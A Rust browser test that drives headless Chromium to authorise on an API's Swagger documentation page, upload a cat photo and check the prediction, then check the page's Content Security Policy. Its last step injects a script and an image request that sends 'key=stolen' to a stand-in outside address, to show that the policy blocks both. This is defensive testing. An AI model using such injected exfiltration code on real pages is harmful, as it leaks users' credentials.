//! The documentation page in a real browser: authorise, upload a picture, see the predictions; and what is not of the page
//! does not run in it.
//!
//! Drives headless Chromium over the WebDriver protocol (W3C), a handful of requests to `chromedriver`.
#![forbid(unsafe_code)]

mod common;

use std::io::{BufRead, BufReader};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use common::{KEY, Server, data};
use serde_json::{Value, json};

/// How long the page may take for one step.
const PATIENCE: Duration = Duration::from_secs(60);
/// The name under which WebDriver passes elements, fixed by its specification.
const ELEMENT: &str = "element-6066-11e4-a52e-4f735466cecf";

/// A browser with one page; dropping it ends it.
struct Browser {
    driver: Child,
    session: String,
    _profile: tempfile::TempDir,
}

impl Browser {
    fn start() -> Option<Self> {
        let mut driver = Command::new("chromedriver").arg("--port=0").stdout(Stdio::piped()).spawn().ok()?;
        let lines = BufReader::new(driver.stdout.take()?).lines().map_while(Result::ok);
        let port = lines
            .filter_map(|line| line.strip_suffix('.')?.rsplit_once("on port ").map(|(_, p)| p.to_string()))
            .next()?;
        let profile = tempfile::tempdir().ok()?;
        let arguments = [
            "--headless".to_string(),
            "--no-sandbox".to_string(),
            "--disable-gpu".to_string(),
            "--disable-dev-shm-usage".to_string(),
            "--no-first-run".to_string(),
            "--disable-background-networking".to_string(),
            "--disable-component-update".to_string(),
            "--disable-sync".to_string(),
            "--window-size=1280,2000".to_string(),
            format!("--user-data-dir={}", profile.path().display()),
        ];
        let wanted = json!({"goog:chromeOptions": {"args": arguments}, "goog:loggingPrefs": {"browser": "ALL"}});
        let capabilities = json!({"capabilities": {"alwaysMatch": wanted}});
        let sessions = format!("http://127.0.0.1:{port}/session");
        let answer = Server::agent().post(&sessions).send_json(&capabilities).expect("chromedriver answers");
        let value: Value = common::read(Ok(answer)).json()["value"].clone();
        let id = value["sessionId"].as_str().unwrap_or_else(|| panic!("no session: {value}"));
        Some(Self { driver, session: format!("{sessions}/{id}"), _profile: profile })
    }

    fn post(&self, command: &str, body: &Value) -> Value {
        let answer = Server::agent().post(format!("{}/{command}", self.session)).send_json(body);
        common::read(answer).json()["value"].clone()
    }

    /// Waits for the element of an XPath, or panics with what the page shows.
    fn find(&self, xpath: &str) -> String {
        let begun = Instant::now();
        loop {
            let found = self.post("element", &json!({"using": "xpath", "value": xpath}));
            if let Some(id) = found[ELEMENT].as_str() {
                return id.to_string();
            }
            assert!(begun.elapsed() < PATIENCE, "no {xpath} on the page: {}", self.text("//body"));
        }
    }

    fn click(&self, xpath: &str) {
        let begun = Instant::now();
        loop {
            let element = self.find(xpath);
            let answer = self.post(&format!("element/{element}/click"), &json!({}));
            if answer.is_null() {
                return;
            }
            assert!(begun.elapsed() < PATIENCE, "cannot click {xpath}: {answer}");
        }
    }

    fn type_into(&self, xpath: &str, text: &str) {
        let element = self.find(xpath);
        let answer = self.post(&format!("element/{element}/value"), &json!({"text": text}));
        assert!(answer.is_null(), "cannot type into {xpath}: {answer}");
    }

    fn text(&self, xpath: &str) -> String {
        let script = "return document.evaluate(arguments[0], document, null, 9, null).singleNodeValue?.innerText ?? ''";
        self.run(script, &[xpath])
    }

    fn run(&self, script: &str, arguments: &[&str]) -> String {
        let answer = self.post("execute/sync", &json!({"script": script, "args": arguments}));
        answer.as_str().unwrap_or_default().to_string()
    }

    /// What the browser has kept the page from since it was last asked, from its console.
    fn violations(&self) -> Vec<String> {
        let entries = self.post("se/log", &json!({"type": "browser"}));
        let messages =
            entries.as_array().expect("entries of the console").iter().map(|entry| entry["message"].to_string());
        messages.filter(|message| message.contains("Content Security Policy")).collect()
    }
}

impl Drop for Browser {
    fn drop(&mut self) {
        // Ending the session ends Chromium; the driver goes with it.
        let _ = Server::agent().delete(&self.session).call();
        let _ = self.driver.kill();
        let _ = self.driver.wait();
    }
}

/// Where the dialogue asks for the credential of a scheme.
fn scheme(name: &str) -> String {
    format!("//div[contains(@class, 'auth-container')][.//h4[contains(., '{name}')]]")
}

fn authorise(browser: &Browser, name: &str) {
    browser.click("//button[contains(@class, 'authorize')]");
    browser.type_into(&format!("{}//input", scheme(name)), KEY);
    browser.click(&format!("{}//button[text()='Authorize']", scheme(name)));
    browser.click("(//button[contains(@class, 'btn-done')])[1]");
}

#[test]
fn a_person_authorises_uploads_a_picture_and_sees_the_predictions() {
    let Some(browser) = Browser::start() else {
        assert!(!common::must_run(), "no chromedriver: install chromium and chromium-driver");
        eprintln!("SKIPPED: this machine has no chromedriver (Debian: chromium-driver)");
        return;
    };
    let server = Server::start(&["--device", "cpu"]);
    let opened = browser.post("url", &json!({"url": format!("{}/docs", server.url)}));
    assert!(opened.is_null(), "{opened}");

    authorise(&browser, "ApiKey");

    let operation = "//div[contains(@class, 'opblock')][.//span[@data-path='/predict']]";
    browser.click(&format!("{operation}//span[@data-path='/predict']"));
    browser.click(&format!("{operation}//button[contains(@class, 'try-out__btn')]"));
    let picture = data("photos/cat_640x480.jpg");
    browser.type_into(&format!("{operation}//input[@type='file']"), picture.to_str().unwrap());
    let execute = format!("{operation}//button[contains(@class, 'execute')]");
    browser.click(&execute);

    let live = format!("{operation}//table[contains(@class, 'live-responses-table')]//tr[@class='response']");
    browser.find(&live);
    let shown = browser.text(&live);
    assert!(shown.starts_with("200"), "{shown}");
    assert!(shown.contains("\"predictions\"") && shown.contains("\"label\": \"Egyptian cat\""), "{shown}");

    // The other scheme is as good, by itself.
    browser.click("//button[contains(@class, 'authorize')]");
    browser.click(&format!("{}//button[text()='Logout']", scheme("ApiKey")));
    browser.click("(//button[contains(@class, 'btn-done')])[1]");
    authorise(&browser, "Bearer");
    browser.click(&format!("{operation}//button[contains(@class, 'btn-clear')]"));
    browser.click(&execute);
    browser.find(&live);
    assert!(browser.text(&live).starts_with("200"), "{}", browser.text(&live));
    let sent = browser.text(&format!("{operation}//div[contains(@class, 'curl-command')]"));
    assert!(sent.contains("Authorization: Bearer") && !sent.contains("X-API-Key"), "{sent}");

    // Every other operation and every schema, opened.
    browser.run(
        "for (const closed of ['.opblock:not(.is-open) .opblock-summary-control', '.model-container .model-box-control'])
             document.querySelectorAll(closed).forEach(button => button.click());",
        &[],
    );
    browser.find("//div[contains(@class, 'opblock') and contains(@class, 'is-open')][.//span[@data-path='/metrics']]");
    browser.find("//div[contains(@class, 'model-container')]//*[contains(text(), 'request_id')]");
    let none: [String; 0] = [];
    assert_eq!(browser.violations(), none, "the page does what its own policy forbids");
    // What somebody slips into the page neither runs nor reaches another server.
    browser.run(
        "const script = document.createElement('script');
         script.textContent = 'document.title = \"taken over\"';
         document.body.append(script);
         new Image().src = 'http://127.0.0.2:9/?key=stolen';",
        &[],
    );
    assert_eq!(browser.run("return document.title", &[]), "Swagger UI");
    assert_eq!(browser.violations().len(), 2);
}
